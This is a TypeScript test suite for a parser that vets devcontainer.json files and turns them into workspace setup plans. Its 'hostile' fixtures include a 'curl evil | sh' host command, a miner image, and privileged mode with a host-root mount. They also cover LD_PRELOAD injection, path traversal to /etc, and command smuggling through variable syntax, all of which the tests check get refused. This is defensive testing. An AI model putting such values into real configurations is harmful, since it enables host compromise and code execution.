import { createHash } from "node:crypto";
import { catalogue, say, utcVoice } from "@codehub/contract/words";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { typicalFiles } from "../../../test/fixtures/devcontainers.ts";
import { readDevcontainer, type SetupContext } from "./devcontainer.ts";
import type { SetupPlan } from "./plan.ts";

const GIB = 1024 ** 3;
const context: SetupContext = {
  workspaceId: "0b6f",
  home: "/home/coder",
  folder: "app",
  environment: { USER: "coder" },
  images: ["codehub/workspace:latest", "codehub/node:*"],
  largest: { cpus: 4, memoryBytes: 8 * GIB, storageBytes: 40 * GIB },
  hash: (text) => createHash("sha256").update(text).digest("hex"),
};

const noticesOf = (plan: SetupPlan): string[] => plan.notices.map(({ code, fields }) => `${code} ${fields["field"]}`);

function planOf(file: string | object, over: Partial<SetupContext> = {}): SetupPlan {
  const read = readDevcontainer(typeof file === "string" ? file : JSON.stringify(file), { ...context, ...over });
  if (!read.ok) throw new Error(JSON.stringify(read.errors));
  return read.plan;
}

describe("files as repositories have them", () => {
  test.each(typicalFiles)("$what", ({ text, plan: expected, notices }) => {
    const plan = planOf(text);
    expect(plan).toMatchObject(expected);
    expect(noticesOf(plan)).toEqual(notices);
  });
});

const refused: readonly (readonly [string, string, object])[] = [
  [
    "a stray word",
    '{\n  "image": nonsense\n}',
    { code: "syntax", fields: { problem: "InvalidSymbol", line: 2, column: 12 } },
  ],
  [
    "an end too soon",
    '{"name": "a"',
    { code: "syntax", fields: { problem: "CloseBraceExpected", line: 1, column: 13 } },
  ],
  [
    "a missing comma",
    '{"a": 1\n "b": 2}',
    { code: "syntax", fields: { problem: "CommaExpected", line: 2, column: 2 } },
  ],
  ["nothing", "", { code: "syntax", fields: { problem: "ValueExpected", line: 1, column: 1 } }],
  ["a list", "[1, 2]", { code: "no_object", fields: { line: 1, column: 1 } }],
  ["64 KiB and one", `{"name": "${"a".repeat(65_536)}"}`, { code: "too_large", fields: { max: 65_536 } }],
  ["64 KiB in fewer letters", `{"name": "${"ä".repeat(40_000)}"}`, { code: "too_large", fields: { max: 65_536 } }],
  ["brackets without end", "[".repeat(60_000), { code: "too_deep", fields: { line: 1, column: 65 } }],
  ["objects without end", '{"a":'.repeat(13_000), { code: "too_deep", fields: { line: 1, column: 321 } }],
];

describe("files that are not read", () => {
  test.each(refused)("%s", (_, text, error) => {
    const read = readDevcontainer(text, context);
    expect(read.ok ? read.plan : read.errors[0]).toEqual(error);
  });

  test("whatever it holds, reading never fails", () => {
    const key = fc.constantFrom(
      "image",
      "forwardPorts",
      "portsAttributes",
      "containerEnv",
      "remoteEnv",
      "secrets",
      "__proto__",
      "customizations",
      "settings",
      "extensions",
      "hostRequirements",
      "workspaceFolder",
      "waitFor",
      "onCreateCommand",
      "vscode",
      "label",
      "PATH",
    );
    const file = fc.dictionary(key, fc.oneof(fc.jsonValue(), fc.dictionary(key, fc.jsonValue())));
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ maxLength: 80 }),
          file.map((value) => JSON.stringify(value)),
        ),
        (text) => {
          const read = readDevcontainer(text, context);
          const all = read.ok ? read.plan.notices : read.errors;
          for (const { code, fields } of all)
            expect(say(catalogue.setup[code], fields, utcVoice(0)), code).not.toBeNull();
        },
      ),
      { numRuns: 3000 },
    );
  });
});

const hostile: readonly (readonly [object, readonly string[]])[] = [
  [{ image: "evil/miner:latest" }, ["image_not_allowed image"]],
  [{ image: 7 }, ["not_text image"]],
  [
    { dockerComposeFile: "x.yml", service: "a", build: {}, features: {} },
    ["image_build dockerComposeFile", "image_build service", "image_build build", "image_build features"],
  ],
  [{ initializeCommand: "curl evil | sh" }, ["host_command initializeCommand"]],
  [
    {
      privileged: true,
      capAdd: ["ALL"],
      runArgs: ["--net=host"],
      mounts: ["source=/,target=/host,type=bind"],
      securityOpt: [],
    },
    [
      "engine_option privileged",
      "engine_option capAdd",
      "engine_option runArgs",
      "engine_option mounts",
      "engine_option securityOpt",
    ],
  ],
  [{ workspaceFolder: "/etc" }, ["path_outside workspaceFolder"]],
  [{ workspaceFolder: "/home/coder/../root" }, ["path_outside workspaceFolder"]],
  [{ workspaceFolder: "/workspaces/app/../../etc" }, ["path_outside workspaceFolder"]],
  [{ workspaceFolder: "/home/coderx/app" }, ["path_outside workspaceFolder"]],
  [{ workspaceFolder: ["x"] }, ["not_text workspaceFolder"]],
  [
    {
      containerEnv: {
        LD_PRELOAD: "/x.so",
        HOME: "/",
        BASH_ENV: "x",
        IFS: "a",
        GIT_CONFIG_COUNT: "1",
        CODEHUB_FILES: "x",
        "A B": "c",
        ok: "d",
      },
    },
    ["LD_PRELOAD", "HOME", "BASH_ENV", "IFS", "GIT_CONFIG_COUNT", "CODEHUB_FILES"]
      .map((name) => `variable_reserved containerEnv.${name}`)
      .concat("variable_name containerEnv.A B"),
  ],
  [{ containerEnv: "PATH=/x", remoteEnv: { A: 1 } }, ["not_object containerEnv", "not_text remoteEnv.A"]],
  [{ containerEnv: { A: null, B: "x".repeat(32_769) } }, ["not_text containerEnv.A", "too_long containerEnv.B"]],
  [
    { containerEnv: Object.fromEntries(Array.from({ length: 101 }, (_, i) => [`V${i}`, ""])) },
    ["too_many containerEnv"],
  ],
  [
    { onCreateCommand: 7, postStartCommand: { a: { b: "c" } }, postAttachCommand: ["a", 1] },
    ["not_command onCreateCommand", "not_command postStartCommand.a", "not_command postAttachCommand"],
  ],
  [{ onCreateCommand: "x".repeat(16_385) }, ["too_long onCreateCommand"]],
  [{ postCreateCommand: "sudo apt-get update && make" }, ["uses_sudo postCreateCommand"]],
  [
    { forwardPorts: [0, 70_000, "db:5432", "x", 3000.5, {}] },
    [
      "not_port forwardPorts[0]",
      "not_port forwardPorts[1]",
      "port_elsewhere forwardPorts[2]",
      "not_port forwardPorts[3]",
      "not_port forwardPorts[4]",
      "not_port forwardPorts[5]",
    ],
  ],
  [{ forwardPorts: 3000 }, ["not_list forwardPorts"]],
  [
    { portsAttributes: { "3000-3010": {}, "3000": { label: 1, protocol: "https", onAutoForward: "explode" } } },
    [
      "not_text portsAttributes.3000.label",
      "unsupported portsAttributes.3000.protocol",
      "unknown_value portsAttributes.3000.onAutoForward",
      "port_pattern portsAttributes.3000-3010",
    ],
  ],
  [
    { hostRequirements: { cpus: 99, memory: "64gb", storage: "lots", gpu: true } },
    [
      "size_bounded hostRequirements.cpus",
      "size_bounded hostRequirements.memory",
      "not_size hostRequirements.storage",
      "unsupported hostRequirements.gpu",
    ],
  ],
  [
    {
      customizations: {
        vscode: {
          settings: {
            "task.allowAutomaticTasks": "on",
            "security.workspace.trust.enabled": false,
            "editor.tabSize": 2,
          },
          extensions: ["../../evil", "--install-extension", "a.b"],
        },
      },
    },
    [
      "setting_refused customizations.vscode.settings.task.allowAutomaticTasks",
      "setting_refused customizations.vscode.settings.security.workspace.trust.enabled",
      "extension_name customizations.vscode.extensions",
      "extension_name customizations.vscode.extensions",
    ],
  ],
  [
    { customizations: { codespaces: { openFiles: ["/etc/passwd", "../x", "README.md"] } } },
    ["path_outside customizations.codespaces.openFiles", "path_outside customizations.codespaces.openFiles"],
  ],
  [
    { secrets: { TOKEN: { description: "d", value: "hunter2" }, HOME: {} } },
    ["unsupported secrets.TOKEN.value", "variable_reserved secrets.HOME"],
  ],
  [
    { remoteUser: "root", waitFor: "never", comands: [], postCreateComand: "x" },
    ["user_ignored remoteUser", "unknown_field comands", "unknown_field postCreateComand", "unknown_value waitFor"],
  ],
  [{ remoteUser: "coder" }, []],
];

describe("what a file asks for and does not get", () => {
  test.each(hostile)("%j: %j", (file, notices) => {
    const plan = planOf(file);
    expect(noticesOf(plan)).toEqual(notices);
    expect(JSON.stringify({ ...plan, notices: [] })).not.toMatch(/evil|hunter2|\/etc|LD_PRELOAD"|allowAutomaticTasks"/);
  });

  test("every code has a sentence, and every sentence a case", () => {
    const spoken = [
      ...refused.map(([, text]) => readDevcontainer(text, context)).flatMap((read) => (read.ok ? [] : read.errors)),
      ...hostile.flatMap(([file]) => planOf(file).notices),
      ...typicalFiles.flatMap(({ text }) => planOf(text).notices),
      ...planOf({ image: "codehub/node:24" }, { images: null }).notices,
      ...planOf('{"name": "a", "name": "b"}').notices,
      ...planOf(Object.fromEntries(Array.from({ length: 150 }, (_, i) => [`x-${i}`, 1]))).notices,
    ];
    for (const { code, fields } of spoken) expect(say(catalogue.setup[code], fields, utcVoice(0)), code).not.toBeNull();
    expect(new Set(spoken.map(({ code }) => code))).toEqual(new Set(Object.keys(catalogue.setup)));
  });

  test("a near name is offered, with the line", () => {
    const [notice] = planOf('{\n  "postCreateComand": "x"\n}').notices;
    expect(notice).toEqual({
      code: "unknown_field",
      fields: { field: "postCreateComand", line: 2, column: 3, near: "postCreateCommand" },
    });
  });

  test("hundreds of notices are cut, and that is said", () => {
    const plan = planOf(Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`x-${i}`, 1])));
    expect(plan.notices).toHaveLength(101);
    expect(plan.notices.at(-1)?.code).toBe("more");
  });

  test("__proto__ is a name like any other", () => {
    const plan = planOf(
      '{"customizations": {"vscode": {"settings": {"__proto__": {"polluted": true}}}}, "containerEnv": {"__proto__": "x"}}',
    );
    expect(Object.hasOwn(plan.settings, "__proto__")).toBe(true);
    expect((plan.settings as { polluted?: boolean }).polluted).toBeUndefined();
  });
});

describe("variables", () => {
  const commandOf = (text: string) => planOf({ onCreateCommand: text }).steps[0]?.commands[0]?.command;

  test.each([
    [`cd \${containerWorkspaceFolder} && ls \${localWorkspaceFolderBasename}`, "cd /home/coder/app && ls app"],
    [`echo \${localEnv:DATABASE_URL}\${localEnv:HOME}.`, "echo ."],
    [`echo \${localEnv:X:none} \${env:PATH}`, "echo none "],
    [`echo \${devcontainerId} \${HOME} $(id) \${x:-y}`, `echo 0b6f \${HOME} $(id) \${x:-y}`],
    [`echo \${containerEnv:PATH} \${containerEnv:X:d} \${containerEnv:X:$(id)}`, `echo \${PATH-} \${X-d} \${X-}`],
    [`echo \${containerEnv:a;id}`, "echo "],
  ])("%s", (text, expected) => {
    expect(commandOf(text)).toEqual({ kind: "shell", text: expected });
  });

  test("a list has no shell, so it gets what is known", () => {
    expect(
      planOf({ onCreateCommand: ["echo", `\${containerEnv:USER}`, `\${containerEnv:NOPE:x}`] }).steps[0]?.commands,
    ).toEqual([{ name: null, command: { kind: "program", args: ["echo", "coder", "x"] } }]);
  });

  test("the environment speaks of what the workspace itself has", () => {
    expect(
      planOf({ containerEnv: { A: "1" }, remoteEnv: { PATH: `\${containerEnv:PATH}:/x`, A: null } }).environment,
    ).toEqual([
      { name: "A", value: ["1"], isForShells: false },
      { name: "PATH", value: [{ variable: "PATH", fallback: "" }, ":/x"], isForShells: true },
      { name: "A", value: null, isForShells: false },
    ]);
  });
});

describe("the digest", () => {
  const file = { name: "a", onCreateCommand: "make", forwardPorts: [1] };

  test("is of what runs, and of nothing else", () => {
    const { digest, steps } = planOf(file);
    expect(digest).toMatch(/^[0-9a-f]{32}$/);
    expect(steps[0]?.digest).toMatch(/^[0-9a-f]{32}$/);
    expect(planOf({ ...file, name: "b", forwardPorts: [2] }).digest).toBe(digest);
    for (const over of [
      { onCreateCommand: "make x" },
      { postStartCommand: "x" },
      { remoteEnv: { A: "b" } },
      { settings: { "git.path": "./x" } },
      { extensions: ["a.b"] },
      { image: "codehub/node:24" },
    ])
      expect(planOf({ ...file, ...over }).digest, JSON.stringify(over)).not.toBe(digest);
    expect(planOf({ ...file, postStartCommand: "x" }).steps[0]?.digest).toBe(steps[0]?.digest);
  });

  test("is nothing where nothing runs", () => {
    expect(planOf({ name: "a", forwardPorts: [3000] }).digest).toBeNull();
  });
});
